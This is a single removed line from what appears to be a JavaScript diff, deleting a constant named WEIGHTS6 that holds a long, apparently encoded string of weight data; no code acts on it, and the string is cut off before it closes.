-const WEIGHTS6 = "#`,a:9.FetxUkg~b<cEVEEKt4^XHy]N%W}KYC<&mVNrqD[|:fV/?,T3wp'tC4@HV*}<{eK|N;fIPjsEt_[)t,GFu/P4}1+@laB)ZZ11,?bksN1N==i(;sEY;#V&V,izb_O.{XA-bbQw,H7sHNnx|rN&7LIobesNbH6axpNowB.H')=[}Mii<cni~O=?p[sAq<m>/+&yUV[;LJr#Ii(Cgt|yaO(.'{^:[+,fOq'TT#Q'P*{Avrs9@Y`cg1j`|)jqdpCD,-4n$H[GUl_XttRI3>]'z~CzA7GC8daDLq8p1X?_(-P>t>YlJY.5~i<P&~$tT{3aZ%vbC}K&yIbo}p9}8JOZ%UGbVrY2,89@vDC~~|mpq,@`x-xNZsY`.KKI7'>A=y8HC(U;H][7+ng`<L,I4fPnz>;Q,%jTC_A6{-t_#y^L{PvxS$3mYCUJ,^;wF]Cngx)ujZ;3rd_2m7jpGhj8];$yeRlvg,pIGN]>}/M5atA3*)XSx5P+]]Xl[W+{Pq(KntZD=&q~ZUE(M}'iGp1'_K1JEZV8wYbHIAh)ZuGIwx.YjoAg(Nw5+7tJyii)[aSC4tQ=b4)e|7,?T{p_,x.08E5mn>)Sk:T6K+3@B%r1Or7e=.N/^6Oi<Byb7F/le#=54Kc`1{]'']~WiVNdqyk#2/;<|&|23bt_EN8C5i~M}XJ,%,L}AHL)s4f9[[WB/>]T.8Z#p0f>O/p{x-c_q3ZSML2te|?*5/X^4/M;DV^X(-y/wWQ>=~71zp&y*Kxt8?gmE18`[-{[EN95pk[>7Osh~ldbLi|We$3'J_+a}#=T88ZI2:,?[;6y5+jI)s6]9<c{y:/n8RHN*0i^jzw[}:~I$`b*9Sds#c8;o<O&MOGS72K$4c$ylEe8(S^X`juIQeLhP(:kxg/sk)sqP$nxt6l}%2_L7|CgJMZD&Y<_M(syg@<LsMe4cAV)ir68S@<9ZqBQge3,XXnmuJ/UxzB=[51[E6mvkp;VwNfq5ZF>JY8Fz?a^TPlcQz(^AAgLJDsUrLhk~A%UwzrN=.|UI/2'IxYk]5,4e'e0>;{caAj7,[U`:*B33l4,Y0H=J<mTY_}2ZS:`@dzDophOhM;aq)C0OC.y(^Boxoq'Wv}{^ACcKqwcL|kSsUDn1,s$}r#UH&M3mV'$?^5|P|8pr0(/dt;]'Ai]a_>h[H?L6d9:6Xg%$R=~-8/7<3`kV&oY#Yh)'An[Fl=+s$}4UG^D0(z?JDwUq/1:3XNu;~C6OkSCe9Mopd>~Y.-MxDAScrHC<lVg~if'ERb|0:@~fD~a^Gclw*P3S;7ysdXA&/&jf[Ce[,.DlW?[>;CuVkFIutX]>*~#|e{&&^[9xClK{Nk|K|r=+:7/mQ$@XR|Z'^N09Y8g,go9vmtmlo%:gO2Ty:YIq}-}(Z-DYz~p/;J@>pbsnp(Av<<KXmjz;WHXfW0cl]H<L<H('R7.u0Be+gKMuwp:aOZWw%f`OYyumC*7]c@r%4<u.fi7[*0jT~_8r1O3W7TVqG<KVV:luK4._a(9XcPikAp1XxLSCM94$Vy;1Ihl^H:DKjIxhtz9i/>V-w)5G2F>,-v?qH=@pG{F0MhuZr`F62bdB1.'VTj/<8gcJtqFFRTgqvm'ga(T9X.>y7N(D|62G%+2c9{gtqYs}lA(E42fZe[J[lL@{Gov^y-$([|FtYeYS4?taNNn~/E-I`z$mAXzb:I/2Me.s6uM$:rgH,Wnb${ADjOTv;]khbEhmk#c1p(mJEcA*hB'T=Z`^S4iL.`g:m%9vf^MD7%k4dw5iQRKLZS:r#{vhB%;[P]W(BU?Hf>R8mrwQnV@njimV/n+C$rFWn,xX1P2S]72x)G8g~C:CD`YtO}PVT}h_8WBP[*Gi,S`kI]9GSdj]SK%-2?y9w%z>1l2W4&19L+-3J;O$mV).MTzu,Lt.eDIRlh:?bX9&wQO`dCl]}WkX)(T_kg1sH`zImX1$O681t={-d*a`P}}m-8Rw1j?1~$=bmty:[|FqzY.|ertf8bP}&?I:hia>^aEvtvnk<[RdRU/%c54NJu>2,ox7)[Dsxc8iRXKu@K`Q<8*4&cL8`QM.]nxh3t3DNUyLoMwr~qKTqhDku+bEM{VkU8:u+$/}Ih[w/J95<ec=U'-AbEz+)r{yA'&,v=FP|as&:smoh_$CI~+d-HG'.Xj4)6)u/gI*_&9fz;'W<OaXS^X+,zw*|/-yEph<l>ERBAXKUoEt>`jV8oY%klPAAC&m^z54&h=J_WX(FMP@+jt)d>J.p0ilsbCX%q8K(KCetx_{8vbNM-Z(n0`c[>S9=XV@-#zBYljReh-].FD`6k|#n]a{G7>-eE&Ch+'bF-4Clru8$BG8Z+f[V8'NOtU/U|)@,p7MWGFJ`GJny2eSEj??uYNK0ei#@m_%X2;0-d3BlJ6JvF?*?&`,X;CtIA1j9INlz;Y]9$w;e62GEc`sF;7k`3uWe(L|Wyn+Bomq}O3cC~/3;/D34|rZJ(fe,yq;nj@{vIEV)I}mciMyXsOhKSPpr9@4GPf+Fr4E1zwG{&b'-W~;k*StHd8.gELj,epa4'WhD;M]+OLR`4,PV3y1S|M/Em@_1Y:]78]d{LZU#A0_^E<swwLI-Is=3|Pq.PR'E)ARMRd,EZrJNm{}.RC*8vVP*u`;sQz.,.3;guNWGm0xw4JIu0[~T0/h{{Qf1m)2p^jGDr`qj(laadW*o+8uj|UsAjCtdWQK$BIjd?W,;R#5Zq(}3Vv`npO3M4=VYRb0gZg8&>.l'8Qg*hxI{e'^Fgz^qv/KVv^ndzvd#?j|`mS{^9DIQd?x9[9It@|zeHHYvbk;9D^Q^cLFLBgqc3Cb7~xG*X=G+U7#rIAIki5a)hU@F*=}2-&k3j;~>ussU1IN`9yo;MChB5RB%[s`72=+IDS#c@5X6`Na1Y@asATGBQ*`f:;Qk[Y*?|sZMY<PRIcI>%Bp~a}SErnvq_|`R/t@hm,lb@tJm-m+Ss$$FTHDb-%iR>`3::DhLp@9/m0$=CJ4n>6*5`9qA%:EsR}UqPLrV:5R>`]{blp(+,?MnP7/?~'IVN+C6?Xu7~&?{s1K_ve0h-6T3n^ViQY$w'zh39Zmc2P78(R8R&5^+8_+P67Bby3VGCh[xjBA}P#'S)A;P;^F4_4QbK)5anD__p@Mmt%#Dz?*TPI#B:*9RO#.vVJu#~C)thWYb{Xk_7lOE0zcEWh+@*@O2sKT@Sgarq0Ocf>4DMa}n[Kippz5juVD?EN;4a'-Jvln.{iIky&b`EIv4ikj9V#6.'ck-jK241?E)uxdrL]LC6hFV'J6QnUz$2Yw)]Y38gT<Nypc)$H$i$T8+[o.[=Id}Q>n4hI/pI{ao9iPF]gQTE=a81>0@?$iqS?V21Q+MvETu'o-62@sr5')?'hKryUEQfPUhZ:1pTwhec0Inlho{*@?)o%bPn+Y-QtzE/C?EsvoK3ec(V0oW6;Pu&w9^3[cfw/>4swWf~#L3#j;YL57d(fwU<72ePltk0i7HtI#jx93jR?<X5/dwI_$xKOx<E?7*-ol]$OmaU8[48&t@l:cq5f?c5.uX=U{.sScEQ4gX~0MJ-0AB=]W[G2`z[C#=@Wr`e/_5O+~,j3a/;v2W{Uoky[0KY=F1u:,%6pGY~nvIGrn<>AhLlM)`.4iRKFo91)WZl_gC2~r;px}4)MA@V^R6{Y8XCF:6'1BRF@U]jwV&k[r3sj5d-?k^x_]YUQ-Bk&.p6J9dkpKFLItBNhgO8E,<w_C3vIe#5oxM,_E];Ep,0gZ)R`)i4=zGRc6M-C[J%[14v{u]fs*tsO3T`XBqgf/H?5]%vaSZ0Ct:6ha0N$KQ_yNs,or4m]+A'G.2ZT@*2b:K[/Yv.m1%$*g]zf?k~bZSk(:`7GzRv>xvw%'^-^F7NWvJGG.KBIjw/%s<7ZDB+1s<;@]HBGn=BA?a$U.5FV&Y[?FP6,G-HDfG[BK54F8/TC-qvXizcFKMyya}br2`gbU[xYWrp/vRSMCQ7S.~*CwS?{F*S*?~I(}i5>K{yA,qdrgt.~~Gq|DG>^|_>{|>p}5&v?w|p^7ow>yT;P3&%3f{8w#>*yY`za|3dO?w]D;ZmAJo8=m.)1I92b.yHs5Y-27a|R8J)Hn5/W?WA#aP`^I.UWYAlwyMKT9xyZ3RU.+]0HItzRMrqP+O7#U;cphU1>f*6xLG-Js7:`U{~RqukpCC?$wLqG}0'#N02oLZ0TO#dT&]F>.MQyggcv*VGRu6x[%ZA8;8}cg<%&Mb/G-zn4gJo_/QOdB[}vT(DBz7q>KgBPB@tCCZ5sZ69PU43N#ecm=,c^?PEF:>5d@nzTl,n*A;J?I(SEY`&IAA]'z)s)|U5&.o2'5)NL-z^VZMVNWo3,r&|J#8wFv.shhJ,s}NDBer'Y{$8mS:>}d^F,s.Yzf5gseugXzUMNtWZJis2Ad[k51h/e@b&1md,;w.7W?qq:ZN{Jy;>gRkS),;@R2Y38yQMHcri}]qe-~YsYNK{OX7|->KHZPK]r}Dg:U+984_9K2_tj[h~A+oHxQobmBz-3F1),Yhg8yR4H:vU*G%qHND-%G%QzIk6Q]bs4J^&gObbbt2Ri]f~j?(O_JbDn/hj1Bo[,v*|O:yQ4[mwLf5pql1,$lRD1|=f;b(#|}.aPun/(,n1H;xNW(QG88HWJr(2cKUUcOL^/OSU*)n>pw6jk[AmO%b8CIX+:^Oka+zX|GP|y8%r4G&oM$~i-6Uc3Qr(Q4T($g#oN[jsVh7C*,=0XTz+CDw:fguQUy]s7Bel-W1Hx6EU*Ur`NSsl0x5p]X6jFzE5}u4%VN,Zdn7{n9iF>~tqLqD[0p.,;L9m~n0ot%$7}{}T%WM;a6+}Z}3m5Jt&wnxbqbs>DY}#a32x0m=4PF0%rCYC^mFRkrWvNzjkk'TaM_]J&QxIY2;kVQfv6yS]wOAvfzp-ef<`L-/10T%zy}@Q<~hPjV8_;|=BYMCq3d2**$zBt{sti1TnBmvtv~V/)_dA}%MD,7[^`q~Tyef]L]@]tbYE<rROO'xTEjy|-m0?<b9W}6pGd{(:Bc2Yl6lOp9*[R_~DkB*Oa84se4Ep8lQuvk@{Tx&W5~,*Y*L,N_T42%_I;}fMC]p/U$/7FFhOZD&O.ridg]8L6S<t#S=#(rn%YCbcD)DP_|XaMvavx:'h,}xYrgVZty7A=9M]x4~9t<XZDnU7n+]|)(zz)nq4_B]3.;O@R+q8zof-4M=_W*17n]gY*S'*@0GEj8ADF+,>z_}{2bufiKWwcft3~tO~da>SeUnvHV&Gyej}be$j<_e3%D+'FWecL;BZImhvi$AZ`%1f~3ifUeYok@l7[ZuP0J1TjURciPutoA<<P8nj_(n,PKd~qQXE'R*1Ljsba,IK^~VTeARH5[RFUv;[.)RX_We(jPv~yo*Sxv&'GK}J~k)gD9cV.O(LQl;ODt&)nr.Gw~P.kHG$JGEgOI;x[o*~B)I@[;0Lb[v1q/<d[t`p{g#9;7|Ilb~m<vaF*_'Y:1VN1rAG-:Sr>7m)FSk#WCC?IFU*S$X.]N)J%F7,;RuG27mTM6LJrx@b:WboS_q?kopk8Ndku0n'X~vdRlqnda%u%h=?8Y.`rxs$Zy6F@=&T9e(B=^hxBV=*Q~Xp.SHXxF]&`}MO:-y{>mCy|m|/O~c,a]q<h=5/n_/O]SDq5|8iLNWt%h`%@M18(L~rM_';h{CrVC$u.MSjVum1<MoNV=4ba?b@gIL=q3AYrRtzr.{Jhy]6Vv4AUXhR]c>33m==dV~%p(797])&qsoqI^|Q;tT|4;Es-=7?t2N1E+`f0=@-RZ-9a*3tDzM*a]6>8KmXY6(^4Wab)jk;z)QQZm~Vt`0Qtus_6V)`Wr9^^*L-G/YrW`gn;B[RWz(JQ11Pcm4[v/#j}p`u1M6R2J6[Ov6mopU.1NI@]?{,mamfZqGQZ3km%7jtp6JSCR$SJx`rp[tC7{K2A(.WV12-6KI}%l1;#=JRph=3t+=c$*xveGdWZg)VVP`o%A660am|(VQ>Jrh`Zo+2s1FfTZ]N>w/u>92(V0prt>:fGi?,1?Fj<TpNvnwFj~p3_8'cehPEt*9RS}^,*2kk;}J,Du(lYtyD8#F%t$nM+E(5`irR^z/M@n9<bQ+.Y#+&hnzc}/Gt&D2A9QhTzo}+%BF$,%,[<8':ln^Azx87SQ:i$rNP:JYc4MeDT.6}Av:F>_ZJu;LrKN~UKjqoY16)DA1&*ym9kuxJ{^CMCpinVJ`zLAm'K=2F5T|vKH(+gRbmdObq*j3GBuUoiWWtYG?2E=h0K;0B7G|g,py[XG9Z]#t$}_0G7+g>fM,j)t-<SiYrrTs;VTRa(E=G_|zmtqfq<F.oGi2W64_Q;2UuCnT(~zE[I?sovGJ#KLB~Gpdij$t'vgQNt?[{M{+QRp5/Sj-T)XOKWG)_HvJLS<|s3WCQ@T(G([+4%tHX@t+<|}IjhZ0pZ#tF7w.^=Y%#63Vx?Ip~owci<:J=Fxd[jOOabTOYBwXF'l-*yCDbH3/g8W`CgmI*@zI+1IjF+[pTf:TqO@SD#|J#F$`.s=}l73&2R=a6Cy>']WZn.POdyfRee>+U>/}-WGc~XSJI&/5g1t*y1]QH['CPfL05PVQCC}1EorbzCe2X<JN1E%kEf#|b90.o-9yAT7@y^St@M[,I~)[_M^CZmAE/5{lYoAHi:&,BSBFggC<agV[y'H(]O{8sib&NuFJULm(#IJD^>vA6|2`_o}D{1NJTz0DTS>{kqQ5GyKh9U^snk+JXuRFT%$dAwNyP#x3XMrDwf&sx1E8r)oR7vZ*)akv[=Cz11&n9`/gNC4,t'I9cE=f]Y1D7:C*@2;D.T1Uz_RC]6$C|_,+)hK`vP}3mog[AmMEVS_Wi?}SXAia'2l}[$ZtA&II2{mEO,*WjBc*oevKU$FQP`p7f[<S%w~Ae4LS/p&Mf/Sm(g'5c%&'5IsXDOuxbXX$Fe_^hA[PWKHc@1KN7hIib[Cr<%CfRadx>3Nvx((1H8uM2rcYdw1R#`yUaJ$-8Xdd{FIpX%lM|0_1:-)B:&1YOFj3qz`SO){t&l+I9V.Ke0%4RT:FY,%IHiG3{P$yJ*_nq$(yMGgcf9L%z[,T{r_[n88K3)2Zng:m%J6o6Q_XcfW$3J6Lr@U#ln^IvfD]m9u9ul:dtr7y%'*~nA`JO[<~|XqKyde-v?_+0~~i*XS>[xbl@9+HZjYTg?'doCu}^k|&ql%Nk+6ilqfe_r0<yOZ>pT@&kJg^F^|5y}<]t+Xg?x1'nn)k;uJ{sS_M(3XJO]3G`r3p0'rFa0nP/XvAJ{n/dVY,6Vy^GX1^woCRAp4i6~0sRl2qz]J1CMw@i_p|?sjAwZEU:i*E=rryg$T9=*M|_(H-1CKY>bAqZsxK9A1eb.LI1Zgfc(_JfE?d(0obGhnl[v+e#A[(F`cC?q2fjhIdL97Oa*DkcwNJx`/'C>2]uTAy@`:LlWIIj3bLX(?F$KqhteI:TUnmj5rF7v'*(I.eGh`Y_I=Li$vJZ^(^%Ex;JWw4hmgGwuqN&E|n(Js~]TTX'N+Yr%.3xN$X1ZVZdEGu0GIfD-8rr_^6`4%450R1QIz|JL[E~`52)8`b_,(}`7a-<@E`[uGK<>G1Sg{yKg]6$?[$<~lxX/83$T0/OU]n>vE|1pGAx#=}8*4X2qyD0KT@'Sl`g:]1Z+:OBIG(D>N9-VFkhBhgNPFF{D)HDAIwS{Aq`?vtP~7#pM8YkP:0?CKrC>x|]9&0b$>x2Y,k&s*rPyKpt9T45l,tuFh`YsVaFnQ|bg.[LUBrnOk#ArB2YO+0'loI$e`&Q0UFZS?AQs/<z]C3PFdj^^LJ)6Fu|Vp(:7^<Q55>rd<aWKf3<0s;##P/[B5Uf@o.gxJu(FeXtA^;CNK~e8Mjk4az%I2J3_x|XwF5g/f1%qJ=C8eO#cV`LAO#eg'|*`Qah'd@F>+);Jm>;Z)UO*TY?%f$m0nfb;as^5$1M3aU6h't8$b-R;>.,<~U-M}T,SYz76%c7A_A<p-`%/9np<'yO.*;<$y8Ec>}Drl5D_Y>7X9#iTeX{n*g~hvRB'Cg#S)6R9Q`DO7?x9+w@Aq}*jRRHtkSRin*+uf.;RsoUWf-md%|V-VnGdhP0cSG;c;O-CXRLdrvHOXVh0}iOn#/5[Q]^NkHjQ`v4VF$oA0phBE,#O}Ii[RvOee;VfOJhP^).C4ywqXi[Nx9,2H)IUJCtozk^Z/BDOMp5fY,Owc+P54I'SmQ9I%$Y9bz|pt<1Q@gTzP94CL*<:BTD?y5/bL7DzV)/p{iy4:gv&=ESCTnd+Ox6`WZP?;I{gT|tNB%MXL72*Qyiawc#]|-?T|Qn%s#&X>B:D-cpH6KG?%-l8KnlviU5y6wo=_=S330szAAvN?6:9Dz5H=2lW=xktFNbc646fKpf>8>)%F1nUQ)s_]j>6_}o]`g)Hi`X#[zp<L=I7uUbp/1s8wF]9k,Ar^|[/]e8o=pa[&(%3YN[N>xK;B0(C%$hUK%BN?_l]4X*&WSWaQaz05N(wV6^`F*xQt]cNg:eR=)eer^5eQp]%LdD32qzLOA@cyxcoz,+~;@IAKEaO@Cu2JQ)nXv7u`,+<khXF&*q&J5wT-+=Gi2Ut}p<f)p6(UpngE1LXV=;<~`Tmu_9d<Yt%[N:(b)^md->~:8Z+#(lgOfV>rgp+#C&g0Z<+4dT~/=H41s_SDTeAXzXCojQ/XT*BV%MYtKuwK7^[?Gh~UE$b]8h?7727.lVuX;8{A|-[@-54XvqG7H4?Rt?v}2CEW)b%[<KNuQ|4Z-#3z<n`_jV)[i*M^3_MF`e>oZ.TT8~{}@.sMd.#1n6/Ww@_*hM|<wU&S|LRXOY[LfbmfH|eOxj}@~HlS#R&GqVQR2=aDhE0xJ@ADm4Y-sP>-$hNZF6@^:)a])(3-21QAXhXR#?#Twkm}VTY'OpK[Z-vutlw3b8MpqMZ<*)dlbN>_w6cr%@v'Pb=){b+s-OI9*$J8ou19hG&9{y^%{^[>1>IVCi9CLK5YE5mp`2ldcU<')Y87]x;w}L(@Orx'G`pB5akFj?`es<8)<]$9BcX#Y:9AyLd:Yjfm?STfhqo3$+$jjoB?bME_@ztcyeAQlIDV`n9kp`I(R${a:Qvxv+-*>KrTd~xE^ah7c4)b5L:I{>~d0wG~p~ku@q|&&9s:UM]QV3b#g=n{LmUT)r`kYIyxG-Cp~hUz)1?C?8u_'V>J.%/tiQYN>8YUUh+o9$v1u_T-u^h/m:Lg]%8~pIzo|DECf/C_UX2rkmxd%sc)]S)jhw)7R81E@a:Uim9wf0EF`kJ,/#^]b/xM7^DY^]C]{U)1sKw[Cp=#3&jnU;B*D1C0'K8&*J-@4ru9dYA(Q`CQoNLZ,^^S2r#mS;}gbdokYMVej8EG~&Fz2%h&M,b>)Fo,|d<kp]<?)@PiZ[.HDllSQnIi'c>02;Rms4x>hD21ZZW*yYO=^x56F:4nc=j^ak|]+,t38b%^N.:pnO/:MACU+q}b/J(AH0lVe2z.;10ucMRcKY84u}I@Is*$.#TR[>0OQP~S=`~o./Ctxg:aU]},V|j_k43Zt}]|+jsUi12^$<{,2XsnqoL_.^c2Yg,ks8PWuxvQ6ZxF[c}>c<,FRlQblKmh+R$P(%2Fn-Aip:H{kC?y`3FdiE*,6?J1]eEF`Z$*D30WQ_yEaz:O#~||E-nLfNi4j-<wOxjhaM,Ai|y(ia(B)+}7ez@K>t_T12|n:$abbrS?S}:wdA,[-@uTJ<{`qsGdVlj3N$iYd_,p{P.3;YCIA;YD*mufFIYSYn#:;m4.X5w[[=EvU/MHO&Sk{:8qjH(]{['7L8SGV}uUYXi=$|=p5*StAVV?^>6FuzxtkzvP'`](x]mjhshQHQnZSLGQQ06OT]scmMNBwdH7W/3NT5^ENr&wXq]l$Jn9qiF~XtO'yEo96O6Jk&P*<OPwW&17.9(PM*NNB5LS531bl0<mJ1{Vp?YSw2%Pn/0XAdn##qIe6h9b1fX-=/t`t-EBCrh>l;lscMGRPYJdFKit+i{`dY{DiSgT:7M-rVnS3n9uXOt0Ozjl0;Hm((M0^b'<wsD]Pe8)w?E*ZBK31}8P>sprSgFA%ym>GAZv*vIIpt^l2w8czy2>8CN%m@MO[Tz/Sh{?ZGE>;n(*>qNAtU~'V&?H/dd{l,7bv.*C^`t>u]zBL*'xQfKyl=<*0T/^bXhhagb{$`hwRDSAW$(:y$;zJ<j+/+@1dmPUco2qP`.Ct;Z$YG&s$LeE187pret={%Utf~K)]**Yd9?3:mD}[Q~q8DL}PnNavu{vlQ#u|]9UHW{B;X_Fj+2zq9(d@I+0)jBn;Mn;l:-bg;LUP~_gH]C`sSvqNPFVBTp~_zJJpLCY7b&PRfcp[6La3#oxO.cKuNF9Rju6WQgy+&*D{64fO~~Xk#YQY{phfUdcU_at*3s)4?lvRcoY+@ETO5y=2C/:Mb)'%Ba]d'cD,U?OYi%d@,D)I/Nig-)86'i5DP9zy,N7a-pT|aLZ7oWLkdVEwgwv0DE[tS{w>e9pp85[#$(Q,jk_&GAJ22'~3Di&qw/qHG:IqkO$Vtbs}l;YjQ$?.dIVi3$LikjfH/O4scC}UEvNE(g]WH|kl}3S1T`gKAvveXXPztWROsjLEu-j~6n6jX@cNNLIf??uFc1A+udVHQ=tP,XsYU?{,:DKr'/hJ.~3mpwJqeM8jEpacq%}#Z~(Cu?WSNn1dG4Ch<?=leY=NXd`NE^~Uffgv%XjQuv(@p.w`xgjlPNQI`=D^:3%4A;#|Ab_jO9|&Ep&i8GiJnT3-2+BTcoaRz`d.+l&fL&O@?RE}ZZkAG#%6w81Zq`w)}vMekWjhIRPR/gs?HK`U|zN^}_o^D#1hk.B'YdDQUc,h4oj0o=RX+]/uHb~iX4T4I]:~BP3~r)qVSuKdmLA{TdEoD[HOXLN9F2]%ditu|k(aU;wmV>*KZ*7Q[e<>CMD?M4PaZ7wfO'29],;ts;s|?(?SXE:KgPF2]i,TfS6a6RP.XQO/:nnV7n84DgH]gJcyR)Zw#b9{`0qS^$9U|8m'zwTOY(~|-?bl*Du_WQq3;HM;@(u<tsLV0e{XS}eGhY@wc&](M1'5->z|?=9}^y9I0h5I&{bq6Gn)F@2uKuON0v7aMkSB9;o%7IO#XOu4AXs>9EBnB.ez?-{3m4/p^o_?*^A#9xuJ#mzpMM5x^+A0hf-#Q(Zuh#2<bt{WMzr'MiwSLl~[3_%R`aI{gzazwx?HkK~&QE=e~'5[:YfB4?t|_V5]([,g[(6;P}vs)TeWG9f%_etHSsL_E1I.dvM-s?s2~+5}gwJ6faP)=o+{IVr77EsXj1d2w@XA3/]$XgC0%9gH3Y?|6n4OOZ3e[UPvDg)'EEGEC_UuJim:l^1esZ41rzl|o=[D%da=IC?.{+pc+2P:8Nb1[R>d4`3+fmy@u(^VK&k$;C%<Gr.2*BA*N>us**+G@(6?;jkH?`dT_XM@4|jlaj,]S`rvDJ};>*Wb)8oL%smu4[9|/.r%^?sP&Fi9.1@u*t:Un|&Q[WQzE3idirJx-_NJMc{EONNWcF8iu;5cg~(fY*M.O?xuyzEtzGVxaHv.Tq1W(alY;G2t89){)T.j7%SbGZRPF>#C+A9R3(O5a_NLWv=d[H'cYjTKM&z&xqLcoaxIX`UGUjKvy*H(f|KjM&<i/,EJB[N*agGS,?jtrWe@`Bm4P?^($'?u5'1/EiG3W7nPOT%?Vq5hvb9%C^aT7>G[ddO*A9a3uwuD(/6DujcK}9u`B<=a>/02._Ar.omnvkSldpG,OJ1Bfz;C5U_>S%1o|3Uc;lJ{vE1>/c%,),R[DT^LYw(9=sZiMDr)yO}<thxpVWbhH5q$MSAeU&O3K-k1T+1iNqzb}KSb&r,`7l|0{LQtDP>}IhS{,xK>@#~GQh64q4tdEFz))X_w(/.z7GKq?D`0f*~wd<z]5(ED$FJ2QJdN{V(6.UJM[--dg]?/J_l1bWz#t81mjQ;C1wz%x.1NMJ;GApr7+qFn$y=fFbrFLO`n)QClc|oGNfkB>.X^{,;Vt0+3:SH.Ct:uSJR~aT+~wiAwj5r{wq(V/8CAi7`?FEYzQf]AF]Q5EUlJOFYtK6xzj.eGhjoDeln]ioK|oO~A#??NSbznL1$<$|p+>$tUIRM>~R'#;llK&c`'phbpNaFnP-e/o7CI(Zbq3[EPS_nK'S{_{7Nk<*)nU,4@o|o7BrnS>63'V,CNT[L/5TXFOAQ`x5OPG]Ko1m$HW{U{6+|n.B|hTg`+MY^Dr(,OPw%dVM4RpQZx$tgW0yMNo)jY>G;XQ*;MdFDmx<~Rx>]rk8Tu?CO7#]9Dc-6WpLY^C1&ik'?)*t=gZC{f7,.]w?T|8uFJ$Z;5COK8Gb<_$;'1#3J6Y=8=5u$;gUK+_ZZV%/`,*y?KUwr:%[wu,H%cBv,Y+8Jtt)eJ?Qm`r/BIReJ%RE~zk~Pm0$q%/1C3<~o-gP:l~$C=`j-]14Q6LU?7=HEMK},bzkS1zstHtt/6-BZ9TF-*Z],?zRs4}YhhX3z_PRX%~Q:7|;ZkGfiGu4}d(G(kPT_JoeOq&vr0[+a.ysr(FGmR<3E,|e?6Um3}{(#TWCVF'w'tw#*#H80lOD's4x@l{cmtH.Hs(-4<SK}{[A#}-u*5EJW[x*T)z&Nj*~qHYM4G:XqPeo=kaX1wP(_/S8aCig*-MV~]e&`_5A`maOSt{vKZt/Ba2G97jcYYI*p?Yteo56w|QAC&{6dL6$g*i>AV)DC(;zhFhd2Jd[/jli^pf1%0xd-|>jN8a3=]8#(.4.q_M+CCH;Cur5Gyi<c(uMD#ZvQS*<xl=E36`=-A6Hnp#zf%>J}1vR:_6f@k3iAUQ'MQXydH-Gwb:61RUg8B<i-nV6%QSerc8B;lpbigbMJ5wm)N*/:Sk*yAg}ua{Ib@LU,)xxmD1]}qXIh81+7T6bd^GdX(RXnk)E:af)jn^k6sL)ODG3hAiN8TygBHBdXK`#wk$e}AmQ=>$FY+3ycuHSy,Qy;5zl&0u,AJfiE=tCbEx#o(g=}OqQ4KIV'VRk2^=32/@/ZsfI;5}JinWBnlesY'91<D9+od3H^@01<|m<SFphxe;pc$G7OX[cd&5mVW*~';}7[QznBcgN@_6GqIU#~>H&sl8Wr-m_bYfd*;kgAK|)3]K8*')*kS]WU]5JT%w_WA*&y0G.&XC/.UIsCK)FNPW8MJVDb':B]~zHqi~v)dPx/f:/1NGC'lh)b={pcIb:;UV#mk{@uu_`cF+bOHplv3//MmY~iii89%]:j/3u7Iumm*hv-?,lpiT#@q-gQ~D'yc/fg=WxD+hM?$EU[c'KT[eG+%7h%=&on3=_ELS$%2[)Qr^=LU6(d)CkoSQy^x>XGADo`V2Zh<qlLIxcW7`{G;pw#6&^DF_H0bR-(:zE~Lb]Uq={NP@_1RS:'_BYlIra#pPIZWWl|ZOfwB-E>>')XGr^s4gk#9mZXr]_mKoGkmTQQ.sXu2]6`DC{>_UsAg&~_PJ'|KKhe[`am9>zcz)Aj)RN@'+S]5gcs4f,_.Sgu/US?Ut[uJQ};;&4X#eS$>i+EsNA,E,C`dtt7q,L^1Q1#)Vg};^PVmQ'O3.z{:KN^-]:B%k&f$9.]5=-isK`c[VYwG8i`u0?M8^t]x#*@i+YHGFI^ELf:E/QU@:;Sn~w>TZjsYqXJv7=>|1|9WW^}zI6uG2l'^N7pexeI0YBNb[J0H[d~T%$kE(C?40oKtzuf}HfnN6@+vcTq+v<Ztl{3ZRzR)[EkA1-3b6UlLxa43`65F~E{T7Is838:c>f.Xe;0dJe<YfZ%z&WpI#7ma&f($Xcw]0:2oxIywi]Sx+Z6^PkFZPjJ)LdF+M@kJ*MH;Y~a%8BiS.xpO?2$Wy(:XNZM;A^qCL?N8}Z6fT91f;q;l0lk[,qB<ef)VY<Et]heA;_2JB6Zmw55xI`/nPPC~Q+hPX(r+l=5)S&|`LEv)tgDNqDua]fO(,)UkO/}*vUdEI`x)NcaOJV*|bDHgSFKHl]}{*4xGD$1aOANv0IY7{]Yd$=Rz|gnsxYqu9F:OCj(`s]:&YMBv<*sS}WS;gw_V9wo5++9neyNq`@?Hf@eCK]-yF;yR;qTD%K`Lz6+h${?@a1%4-Uv]KG4xFdSe:(WfB0CNb<_{H7u97d4+}??OR+YGyZ`xCVc)3|BeKXeLXYF;b=#yT@RAP{yD&/#<$i>1{bRLH9FLib({@Gg'_C=GnTXq8iKRXfgVdLqjgv(nZ%<M=zENl-~,f)lDU`XIGP^'dzzT?dt?LF0/K6Vvhl(Js)u$W8h~DIbBR3YpZ=?TQ`w3U`:Gv+Z5ZU)ry'j7_oS1(|ItJ&`ImV'V,Li,NJhqP<Kp~SURoaq9'uVe54(:(|d<NqtO.f9F}U]mOB)Cj<RSPZjFeOPnplBWOTb4VI>758j_d'aFP|GLb8z~DL{ik#tD#@pN8%g-6WOg'};(SST'g%nM+@Mc(xz[*JW23.zaw2XOjS^R.#ClM<qZ]tL9Ki@0;K[89&(m&c_Dqn6z[L+$_<sA)CopTPZmzPZVre6tcC_}[t:=eWA2mz.iCd?(=cSqepqhfq0pC[`K|fwQC<Rm{SIr(KPEh'ZE*pM3c7^QL.O0x?LaN&qkk3n|iQU6'|YDM?_?)<l=Cg(hoVT=,tm5w0OgIm<R>(B0l93,kmmlBkwe'G)KuQ0TPyc5@/&et5uMf&Usp1pN$,r`RCz&0@;0f%R('A=%9547Y[Cyi.Yt;3UUvv{QR:W=<6+^b~}YXN{+Cc/pN3A6?&Bt<D$6a#T>#TnSNnc+V&9pRp#wUDA]]'OMK{bO*y6zeJ?R(U20W2.76@s'5?sN2(b]aIqOAn`t`/d'ikpNzhmcN%[F<<xr?9FJ9c]8oJt*'NY<Fu><^cZ1Bspb}}-JZ4mxcLRw/sjM4P:|KjludSy~36m(cvS#`6e[QL'rvyLN*}ORko.NS]7`Wf<N7J$Pc]l~v&FA2wc_UH7.*DPAPJ2j-[h0u.)o^8hvyiYNH@#?CKM@WL>Vr/^P/L;}]O?b@I_DJA]jNsn}2opAzIq/-^8SweSvJYClUC6bIQ>4JqByF4-#~k>i.k(W~;rZ.lRq#n.iNc7zCl+@t8x[9c.NtDy]UoZT6[plA=`K|#hfSF8LsMe2Kc0#+s1[h*L._suBKeG4S